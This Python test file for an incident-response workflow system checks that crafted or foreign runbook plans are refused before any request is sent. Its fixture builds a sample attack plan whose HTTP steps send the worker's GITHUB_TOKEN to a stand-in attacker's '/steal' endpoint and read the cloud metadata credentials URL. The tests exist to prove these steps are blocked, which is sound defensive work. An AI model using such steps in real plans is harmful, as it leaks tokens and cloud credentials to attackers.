"""Callers name runbooks; the worker writes what runs (issue #11). A crafted `run_runbook` update carrying a plan,
a RunbookWorkflow started directly with a foreign plan, and a plan rendered at triage from another policy are
all refused before anything is sent; a runbook asked for by name that the worker cannot plan is refused with
the reason on the incident's timeline. The checks before the first step retry a bounded number of times.

A capture server stands for the attacker's host: it must never receive a request, and the worker holds a
GITHUB_TOKEN that must never leave it.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from temporalio import activity
from temporalio.client import WorkflowUpdateFailedError
from temporalio.exceptions import ApplicationError
from temporalio.testing import WorkflowEnvironment
from temporalio.worker import Worker

from activities.runbook_plan import RunbookPlanning
from tests.support.harness import run_workers, start_incident, unique_key
from tests.support.runbook_stack import Stack, write_policy
from tests.support.vendor_server import VendorServer
from tocsin.incident.client import get_incident, open_incident, send_update
from tocsin.incident.contracts import incident_workflow_id
from tocsin.policy.loader import load_policy
from tocsin.policy.schema import Policy
from tocsin.policy.triage import TriggerRequest, plan_incident
from tocsin.runbook.contracts import (
    Preflight,
    PreflightAnswer,
    RunbookInput,
    RunbookResult,
    RunRunbookRequest,
    runbook_workflow_id,
)
from tocsin.runbook.guard_contracts import AcquireAnswer, AcquireRequest
from tocsin.runbook.plan_contracts import PlannedHttp, RunbookPlan
from tocsin.runbook.planner import plan_from_policy
from tocsin.runbook.steps import SecretRef
from tocsin.settings import Settings
from workflows.runbook import RunbookWorkflow
from workflows.runbook.checks import CHECK_ATTEMPTS

GITHUB_TOKEN = "ghp_w0rker-t0ken-never-sent"
SERVICE_DOWN = {"alertname": "ServiceAvailabilityLow", "environment": "prod"}


@pytest.fixture
def policy_file(tmp_path: Path) -> Path:
    return write_policy(tmp_path)


@pytest.fixture
def capture() -> Iterator[VendorServer]:
    with VendorServer() as running:
        yield running


def crafted_plan(capture: VendorServer, runbook: str = "database_performance_optimization") -> RunbookPlan:
    """What the issue reproduced: http steps sending the worker's GITHUB_TOKEN to a chosen host, and reading a
    metadata URL, with every permission the plan format has, under the name of a runbook the policy has."""
    steal = PlannedHttp(
        name="enable_read_replicas",
        timeout=timedelta(seconds=30),
        method="POST",
        url=f"{capture.url}/steal",
        headers={"Authorization": SecretRef(secret="GITHUB_TOKEN", prefix="token ")},
        allow_loopback=True,
    )
    metadata = PlannedHttp(
        name="metadata",
        timeout=timedelta(seconds=30),
        method="GET",
        url="http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        allow_link_local=True,
    )
    return RunbookPlan.model_validate(
        {
            "runbook": runbook,
            "service": "checkout",
            "severity": "sev1",
            "labels": {"service": "checkout", "database": "orders"},
            "guardrails": {"allowed_namespaces": ["kube-system"], "max_replicas": 10_000},
            "steps": [steal, metadata],
        }
    )


async def test_a_crafted_run_runbook_update_is_refused_and_nothing_is_sent(
    dev_env: WorkflowEnvironment, settings: Settings, stack: Stack, capture: VendorServer, policy: Policy
) -> None:
    """On the real dev server (a rejected update leaves no trace there, as in production)."""
    plan = crafted_plan(capture).model_dump(mode="json")
    worker_env = {"GITHUB_TOKEN": GITHUB_TOKEN}
    async with run_workers(dev_env.client, settings, runbooks=stack.activities(policy, env=worker_env)):
        inp, handle = await start_incident(dev_env.client, policy, severity="sev3")
        crafted: list[dict[str, Any]] = [
            {"plan": plan, "by": "mallory"},
            {"runbook": "database_performance_optimization", "plan": plan, "by": "mallory"},
        ]
        for request in crafted:
            with pytest.raises(WorkflowUpdateFailedError) as refused:
                await handle.execute_update("run_runbook", request)
            assert "run_runbook takes a runbook's name and labels, never a plan" in str(refused.value.cause)
        # Fields the update does not have are refused too: the plan's parts cannot come in another way.
        with pytest.raises(WorkflowUpdateFailedError):
            await handle.execute_update(
                "run_runbook", {"runbook": "database_performance_optimization", "by": "m", "steps": plan["steps"]}
            )
        state = await get_incident(dev_env.client, inp.key)
    assert state.runbooks == [] and state.runbooks_pending == []
    assert not [e for e in state.timeline if e.kind == "runbook"]
    assert capture.requests == []


def foreign_plans(policy: Policy, capture: VendorServer) -> dict[str, RunbookPlan]:
    genuine = plan_from_policy(
        policy,
        "database_performance_optimization",
        service="checkout",
        severity="sev1",
        labels={"database": "orders"},
    )
    enable = genuine.steps[1]
    assert isinstance(enable, PlannedHttp)
    rebased = enable.model_copy(
        update={
            "url": f"{capture.url}/databases/orders/read-replicas",
            "headers": {"X-Token": SecretRef(secret="GITHUB_TOKEN")},
        }
    )
    return {
        "crafted": crafted_plan(capture),
        "genuine but rebased": genuine.model_copy(update={"steps": [genuine.steps[0], rebased, *genuine.steps[2:]]}),
        "genuine but guardrails widened": genuine.model_copy(
            update={"guardrails": genuine.guardrails.model_copy(update={"allowed_namespaces": ["kube-system"]})}
        ),
    }


@pytest.mark.parametrize("which", ["crafted", "genuine but rebased", "genuine but guardrails widened"])
async def test_a_runbook_started_directly_with_a_foreign_plan_is_refused_and_nothing_is_sent(
    env: WorkflowEnvironment, settings: Settings, stack: Stack, capture: VendorServer, policy: Policy, which: str
) -> None:
    plan = foreign_plans(policy, capture)[which]
    async with run_workers(env.client, settings, runbooks=stack.activities(policy, env={"GITHUB_TOKEN": GITHUB_TOKEN})):
        inp, _ = await start_incident(env.client, policy, severity="sev3")
        result = RunbookResult.model_validate(
            await env.client.execute_workflow(
                "RunbookWorkflow",
                RunbookInput(plan=plan, incident=inp.key, incident_workflow_id=incident_workflow_id(inp.key)),
                id=runbook_workflow_id(inp.key, 1),
                task_queue="incidents",
            )
        )
        await env.sleep(timedelta(seconds=5))
        state = await get_incident(env.client, inp.key)
    assert result.outcome == "refused" and result.steps == []
    assert result.reason.startswith(
        "the plan given is not the one this worker's policy makes of database_performance_optimization (sha256 "
    )
    assert capture.requests == []
    assert not [r for r in stack.server.requests if r.path.startswith("/databases/")]
    # The reason is on the incident's timeline.
    assert f"database_performance_optimization refused: {result.reason}" in [e.text for e in state.timeline]


async def test_a_plan_rendered_at_triage_from_another_policy_is_refused(
    env: WorkflowEnvironment, settings: Settings, stack: Stack, tmp_path: Path, policy: Policy
) -> None:
    """The response workflow's runbooks were planned at triage with a policy the worker does not have (an older
    one, or a receiver's): the one whose plan differs is refused, the one both policies plan alike runs."""

    def widen(raw: dict[str, Any]) -> None:
        raw["runbooks"]["service_recovery_playbook"]["guardrails"]["max_replicas"] = 200

    stale_dir = tmp_path / "stale"
    stale_dir.mkdir()
    stale = load_policy(write_policy(stale_dir, widen))
    request = TriggerRequest(
        service="checkout", severity="sev1", labels=SERVICE_DOWN, response_workflow="service_down_detection"
    )
    inp = plan_incident(stale, request.model_copy(update={"key": unique_key("checkout")}), datetime.now(UTC))
    async with run_workers(env.client, settings, runbooks=stack.activities(policy)):
        assert await open_incident(env.client, inp)
        await env.sleep(timedelta(minutes=2))
        first = RunbookResult.model_validate(
            await env.client.get_workflow_handle(runbook_workflow_id(inp.key, 1)).result()
        )
        await send_update(env.client, inp.key, "run_runbook", RunRunbookRequest(runbook="nope", by="carol"))
        await env.sleep(timedelta(minutes=1))
        second, third = [
            RunbookResult.model_validate(await env.client.get_workflow_handle(runbook_workflow_id(inp.key, n)).result())
            for n in (2, 3)
        ]
        state = await get_incident(env.client, inp.key)
    assert first.runbook == "service_recovery_playbook" and first.outcome == "refused"
    assert "is not the one this worker's policy makes of service_recovery_playbook" in first.reason
    assert first.steps == [] and not [r for r in stack.writes("/scale") if r.json["spec"]["replicas"] > 6]
    # The seed's scale_resources is planned alike by both: it runs, with the worker's plan.
    assert second.runbook == "scale_resources" and second.outcome == "succeeded"
    assert [w.json["spec"]["replicas"] for w in stack.writes("/scale")] == [6]
    assert third.outcome == "refused"
    assert third.reason.startswith("cannot be planned by this worker's policy: unknown runbook 'nope'")
    lines = [e.text for e in state.timeline if e.kind == "runbook"]
    assert f"nope requested by carol: runbook-{inp.key}-3" in lines
    assert f"nope refused: {third.reason}" in lines
    assert f"service_recovery_playbook refused: {first.reason}" in lines


# --- the checks before the first step retry a bounded number of times --------------------------------------


async def test_a_preflight_that_keeps_failing_refuses_the_run(env: WorkflowEnvironment, policy: Policy) -> None:
    attempts: list[int] = []

    @activity.defn(name="runbook_preflight")
    async def preflight(needs: Preflight) -> PreflightAnswer:
        attempts.append(activity.info().attempt)
        raise ApplicationError("the cluster's API is down")

    result = await _run_with(env, policy, [preflight])
    assert attempts == list(range(1, CHECK_ATTEMPTS + 1))
    assert result.outcome == "refused"
    assert result.reason == f"the preflight failed {CHECK_ATTEMPTS} times: the cluster's API is down"


async def test_a_guard_that_never_answers_refuses_the_run(env: WorkflowEnvironment, policy: Policy) -> None:
    attempts: list[int] = []

    @activity.defn(name="runbook_preflight")
    async def preflight(needs: Preflight) -> PreflightAnswer:
        return PreflightAnswer()

    @activity.defn(name="runbook_acquire")
    async def acquire(request: AcquireRequest) -> AcquireAnswer:
        attempts.append(activity.info().attempt)
        raise ApplicationError("Temporal is unreachable")

    result = await _run_with(env, policy, [preflight, acquire])
    assert attempts == list(range(1, CHECK_ATTEMPTS + 1))
    assert result.outcome == "refused"
    assert result.reason == f"asking the guard failed {CHECK_ATTEMPTS} times: Temporal is unreachable"


async def _run_with(env: WorkflowEnvironment, policy: Policy, activities: list[Any]) -> RunbookResult:
    plan = plan_from_policy(policy, "service_recovery_playbook", service="checkout", severity="sev1")
    key = unique_key("bounded")
    async with Worker(
        env.client,
        task_queue="incidents",
        workflows=[RunbookWorkflow],
        activities=[RunbookPlanning(policy).plan, *activities],
    ):
        return RunbookResult.model_validate(
            await env.client.execute_workflow(
                "RunbookWorkflow",
                RunbookInput(plan=plan, incident=key),
                id=runbook_workflow_id(key, 1),
                task_queue="incidents",
            )
        )
